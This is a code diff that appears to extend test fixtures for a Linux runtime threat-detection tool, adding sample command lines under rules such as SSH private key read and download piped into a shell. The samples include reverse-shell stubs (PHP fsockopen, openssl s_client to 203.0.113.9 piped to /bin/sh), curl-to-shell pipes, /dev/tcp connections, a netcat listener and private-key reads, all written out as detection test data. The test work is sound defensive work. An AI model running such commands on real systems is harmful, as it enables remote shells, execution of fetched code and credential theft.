@@ -239,21 +239,24 @@ PRETENDERS = {
     "Tool for others' namespaces runs": ["busybox nsenter -t $$ -u /bin/true"],
     "Times of a file set by hand": ["busybox touch -d 2001-01-01 /tmp/file", "exec -a touch busybox -d 2001-01-01 /tmp/file"],
     "Disk wiped": ["busybox busybox dd if=/dev/zero of=/dev/sdzz count=0"],
+    "SSH private key read": ["/usr/bin/scp read /root/.ssh/id_rsa"],
     "File system debugger runs": ["ln -s /opt/t/debugfs /tmp/fs; /tmp/fs"],
     "Netcat listens": ["ln -s /opt/t/nc /tmp/n; /tmp/n -l -p 4444"],
     "Shell connects to the network": ["exec 3>/proc/$$/comm; echo app >&3; : </dev/tcp/203.0.113.9/443"],
     "Shell started by a server": ["nginx as app run sh -c :"],
     "Interpreter runs a one-line network program": ["python3 -c $'\\nimport socket; exec(x)'", "perl -e 'use Socket; system(1)'",
                                                     "python3 -c 'import pty; pty.spawn(1)'",
-                                                    "python3 -c 'exec(urlopen(1).read())'"],
+                                                    "python3 -c 'exec(urlopen(1).read())'",
+                                                    "php8.2 -r '$s=fsockopen(1); exec(1);'"],
     "Download goes into a shell": ["sh -c $'curl -s http://x.invalid/a |\\n/bin/sh; true'",
                                    "sh -c 'curl -s http://x.invalid/a | tee /tmp/file | sudo -E bash -'",
                                    "bash -c 'bash <(curl -s http://x.invalid/a)'",
-                                   "sh -c 'eval \"$(curl -s http://x.invalid/a)\"'"],
+                                   "sh -c 'eval \"$(curl -s http://x.invalid/a)\"'",
+                                   "sh -c 'openssl s_client -quiet -connect 203.0.113.9:1 | /bin/sh | cat'"],
     "Decoded text is executed": ["sh -c 'echo Og== | base64 -d | cat | sh'"],
     "Shell reads from the network": ["deed socket-stdin busybox sh -c :", "deed as app socket-stdin python3 -c 1",
                                      "cp /opt/t/deed /dev/shm/app; deed socket-stdin /dev/shm/app nothing",
-                                     "cp /bin/busybox /opt/x; deed socket-stdin /opt/x true",
+                                     "cp /bin/busybox /opt/x; deed socket-stdin /opt/x true", "deed socket-stdin php8.2 nothing",
                                      "deed socket-stdin $(echo /lib*/ld-linux-*.so.*) /bin/bash -c :"],
     "Interactive shell without a terminal": ["echo : | bash -li", "echo : | exec -a app sh -i"],
     "Shell history removed": ["ln -s /dev/null /root/.zsh_history"],
@@ -330,6 +333,7 @@ OTHER_WAYS = {
 
 # Rule: what does the same by right, in the ways that programs of a system are made.
 RIGHTFUL = {
+    "SSH private key read": ["/usr/bin/ssh-add read /root/.ssh/id_rsa"],
     # Scripts, of bash and of busybox, and what changes an account a little.
     "Accounts changed by hand": ["adduser", "addgroup", "/usr/bin/chsh write /etc/passwd", "/usr/bin/gpasswd write /etc/group"],
     "Raw socket made": ["traceroute raw"],  # a link to one of some
@@ -343,7 +347,7 @@ RIGHTFUL = {
     "Shell started by a server": ["php-fpm8.2 run sh -c '/usr/sbin/sendmail -t -i '",
                                 "php-fpm8.2 run sh -c '/usr/sbin/sendmail -t -i -fpost@example.org'"],
     "Download goes into a shell": ["sh -c '[ \"$(curl -s http://x.invalid/a)\" = 200 ] || exit 1'",
-                                   "sh -c 'curl -sf http://x.invalid/a || sh -c :'"],
+                                   "sh -c 'curl -sf http://x.invalid/a || sh -c :'", "sh -c 'rsync x.invalid: | sh'"],
     "Everything removed": ["a=({1..1000}); /opt/t/rm -rf -vvvv ${a[@]/#/\\/usr\\/x}"],
 }
 SCRIPTS = {"adduser": "#!/bin/bash -e\n: >>/etc/passwd\n", "addgroup": "#!/bin/sh\n: >>/etc/passwd\n"}
@@ -372,7 +376,7 @@ OUTSIDE = {ENTERED, PRIVILEGED, DIRECTORIES, HOST_FILE, CHANGED}
 
 # Programs by other names; what they do is said by their first argument.
 NAMES = """app chattr chisel chise criu curl curlew debugfs deed dpkg dumpfs enter gdb iptables kubectl kubelet
-kworker linpeas.sh linpeas.txt login logrotate map nc nginx nmap openssl perl php-fpm8.2 ping pkexec pkill postgres python3 rm sha1sum socat ssh
+kworker linpeas.sh linpeas.txt login logrotate map nc nginx nmap openssl perl php-fpm8.2 php8.2 ping pkexec pkill postgres python3 rm sha1sum socat ssh
 sshd sshdd sshh strace sudoedit systemctl useradd worker""".split()
 
 # What the deeds find there; a line each.
@@ -395,7 +399,7 @@ exec /bin/pause
 
 
 # Of these the system has one, too.
-OF_THE_SYSTEM = "apt-get chsh criu gpasswd rpm dpkg gdb kubelet npm perl ping sshd strace systemctl traceroute.db useradd".split()
+OF_THE_SYSTEM = "apt-get chsh criu gpasswd rpm dpkg gdb kubelet npm perl ping scp ssh-add sshd strace systemctl traceroute.db useradd".split()
 
 
 def more_deeds():
